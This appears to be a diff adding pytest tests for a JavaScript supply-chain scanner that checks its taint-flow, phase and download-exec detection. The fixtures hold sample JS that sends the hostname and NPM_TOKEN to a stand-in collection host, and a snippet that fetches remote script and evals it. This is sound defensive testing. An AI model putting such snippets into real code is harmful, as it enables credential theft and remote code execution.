@@ -1,0 +1,61 @@
+"""JavaScript scanner internals that the fast paths must not change: scopes and phases, taint through
+aliases and names, in files large enough that most of the code is skipped by the word prefilter."""
+
+from __future__ import annotations
+
+from chainwatch.packages import signals as sg
+from chainwatch.packages.jsscan import JsScanner
+
+# unrelated code that looks like a bundle: many functions, calls and strings, no sources or sinks
+FILLER = "\n".join(
+    f"function helper{i}(a, b) {{ var x{i} = a.map(function (v) {{ return v * {i} + b.length; }}); "
+    f"return x{i}.join('-{i}-') + String(b).slice({i % 7}); }}"
+    for i in range(3000)
+)
+
+
+def _scan(code: str, phase: str = sg.IMPORT) -> list[sg.Signal]:
+    return JsScanner("index.js", code.encode(), phase).scan()
+
+
+def test_aliased_sources_reach_an_aliased_sink_across_a_large_file() -> None:
+    code = (
+        "const o = require('os');\nconst h = require('https');\n" + FILLER + "\n"
+        "const who = o.hostname();\n"
+        "const tok = process.env.NPM_TOKEN;\n"
+        "const body = JSON.stringify({who: who, t: tok});\n"
+        + FILLER.replace("helper", "other") + "\n"
+        "h.request({host: 'collect.example.net', path: '/c?d=' + body});\n"
+    )
+    flows = [s for s in _scan(code) if s.kind == sg.EXFIL_FLOW]
+    assert flows, "hostname and token flowing to https.request must be a flow"
+    assert {"sysinfo", "env-secret"} <= set(flows[0].detail["sources"])
+    assert flows[0].phase == sg.IMPORT
+
+
+def test_filler_alone_has_no_flow_and_plain_values_carry_no_labels() -> None:
+    code = "const h = require('https');\n" + FILLER + "\nconst n = 3 * 7;\nh.get('https://example.org/?n=' + n);\n"
+    signals = _scan(code)
+    assert not [s for s in signals if s.kind == sg.EXFIL_FLOW]
+    assert [s for s in signals if s.kind == sg.NETWORK], "the request itself is still seen"
+
+
+def test_function_bodies_run_later_but_invoked_in_place_functions_run_now() -> None:
+    code = (
+        "const cp = require('child_process');\n"
+        "function later() { cp.exec('echo later'); }\n"
+        "(function () { cp.exec('echo now'); })();\n"
+        "const arrow = () => { cp.exec('echo arrow'); };\n"
+    )
+    phases = {s.detail.get("command"): s.phase for s in _scan(code) if s.kind == sg.PROCESS}
+    assert phases == {"echo later": sg.RUNTIME, "echo now": sg.IMPORT, "echo arrow": sg.RUNTIME}
+
+
+def test_fetch_and_eval_in_one_function_is_download_exec_in_its_own_scope_only() -> None:
+    code = (
+        "(async function () { const r = await fetch('https://x.example/p.js'); eval(await r.text()); })();\n"
+        "function unrelated() { eval('1 + 1'); }\n"
+    )
+    kinds = [(s.kind, s.line) for s in _scan(code)]
+    assert (sg.DOWNLOAD_EXEC, 1) in kinds
+    assert not [k for k in kinds if k[0] == sg.DOWNLOAD_EXEC and k[1] == 2]
